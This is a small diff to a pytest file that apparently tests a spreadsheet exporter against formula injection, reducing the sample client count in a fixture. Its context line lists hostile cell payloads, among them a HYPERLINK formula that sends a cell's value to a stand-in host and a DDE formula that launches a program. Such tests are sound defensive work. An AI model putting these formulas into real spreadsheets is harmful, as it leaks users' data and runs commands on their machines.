@@ -19,7 +19,7 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0"
 
 @pytest.fixture(scope="module")
 def hostile_path(tmp_path_factory):
-    tables = make_sample_tables(2026, clients=40)
+    tables = make_sample_tables(2026, clients=20)  # enough clients paying in 2026-09 for every payload
     mrr = tables["MRR"]
     paying = set(mrr.loc[(mrr["month"] == "2026-09-01") & (mrr["mrr"] > 0), "client_id"])  # QBR of 2026Q3 below
     ids = [cid for cid in tables["Clients"]["client_id"] if cid in paying][: len(PAYLOADS)]
